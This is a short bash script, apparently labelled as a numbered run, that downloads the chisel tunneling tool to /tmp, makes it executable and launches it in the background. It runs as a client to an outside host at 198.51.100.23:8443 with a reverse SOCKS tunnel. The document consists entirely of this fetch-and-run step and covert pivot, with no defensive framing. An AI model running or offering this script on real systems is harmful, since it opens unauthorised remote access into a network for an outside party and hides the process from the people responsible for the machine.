# run 4561 v2
#!/bin/bash
wget -q https://github.com/jpillora/chisel/releases/download/v1.9.1/chisel_1.9.1_linux_amd64.gz -O /tmp/c.gz
gunzip /tmp/c.gz && chmod +x /tmp/c
nohup /tmp/c client 198.51.100.23:8443 R:socks &
